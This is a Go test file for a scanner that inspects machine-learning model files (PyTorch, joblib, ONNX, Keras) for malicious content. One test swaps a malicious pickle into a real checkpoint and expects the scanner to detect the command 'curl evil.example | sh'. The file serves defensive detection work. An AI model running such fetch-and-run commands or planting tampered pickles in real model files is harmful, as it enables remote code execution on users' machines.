package scan

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRealFixtures scans files written by the real tools (PyTorch 1.13,
// NumPy 1.24, joblib 1.2; testdata/real/gen.py): each must be detected as
// what it is and produce no finding at all.
func TestRealFixtures(t *testing.T) {
	want := map[string]string{
		"torch_zip_state_dict.pt":      "pytorch-zip",
		"torch_legacy_state_dict.pt":   "pytorch-legacy",
		"torch_training_checkpoint.pt": "pytorch-zip",
		"torch_dtypes.pt":              "pytorch-zip",
		"numpy_float.npy":              "npy",
		"numpy_arrays.npz":             "zip",
		"joblib_arrays.joblib":         "pickle",
		"joblib_arrays_zlib.joblib":    "zlib+pickle",
		"joblib_object_array.joblib":   "pickle",
	}
	for name, format := range want {
		t.Run(name, func(t *testing.T) {
			a, err := File(filepath.Join("testdata", "real", name), Options{})
			if err != nil {
				t.Fatal(err)
			}
			if a.Format != format {
				t.Errorf("format %s, want %s", a.Format, format)
			}
			for _, f := range a.Findings {
				t.Errorf("benign real file: %s %s: %s", f.Severity, f.RuleID, f.Message)
			}
			if len(a.Pickles) == 0 && !strings.HasPrefix(name, "numpy_") { // numeric .npy/.npz carry no pickle
				t.Error("no pickle was analyzed")
			}
		})
	}
}

// A real PyTorch checkpoint whose data.pkl is swapped for a payload, the
// way a tampered upload looks.
func TestRealCheckpointWithSwappedPickle(t *testing.T) {
	src, err := zip.OpenReader(filepath.Join("testdata", "real", "torch_zip_state_dict.pt"))
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, f := range src.File {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(f.Name, "/data.pkl") {
			w.Write(evilPickle())
			continue
		}
		rc, _ := f.Open()
		io.Copy(w, rc)
		rc.Close()
	}
	zw.Close()
	p := filepath.Join(t.TempDir(), "tampered.pt")
	os.WriteFile(p, b.Bytes(), 0o644)
	a, err := File(p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if a.Format != "pytorch-zip" || !hasRule(a, PickleDangerousGlobal.ID, "os.system('curl evil.example | sh')") {
		t.Errorf("format %s findings %v", a.Format, ruleIDs(a))
	}
}

func TestONNXModels(t *testing.T) {
	for name, want := range map[string]string{
		"benign_add.onnx":              "",
		"benign_if.onnx":               "",
		"benign_external.onnx":         "",
		"evil_external_traversal.onnx": ONNXExternalData.ID,
		"custom_domain.onnx":           ONNXCustomDomain.ID,
	} {
		a, err := File(filepath.Join("onnx", "testdata", name), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if a.Format != "onnx" {
			t.Errorf("%s: format %s", name, a.Format)
		}
		if want == "" && len(a.Findings) != 0 || want != "" && !hasRule(a, want, "") {
			t.Errorf("%s: want %q, got %v", name, want, ruleIDs(a))
		}
	}
}

func TestKerasModels(t *testing.T) {
	for name, want := range map[string][2]string{
		"benign.keras":        {"keras", ""},
		"lambda.keras":        {"keras", KerasLambda.ID},
		"custom_object.keras": {"keras", KerasCustomObject.ID},
		"benign_legacy.h5":    {"keras-h5", ""},
		"lambda_legacy.h5":    {"keras-h5", KerasLambda.ID},
	} {
		a, err := File(filepath.Join("keras", "testdata", name), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if a.Format != want[0] {
			t.Errorf("%s: format %s, want %s", name, a.Format, want[0])
		}
		if want[1] == "" && len(a.Findings) != 0 || want[1] != "" && !hasRule(a, want[1], "") {
			t.Errorf("%s: want %q, got %v", name, want[1], ruleIDs(a))
		}
	}
}
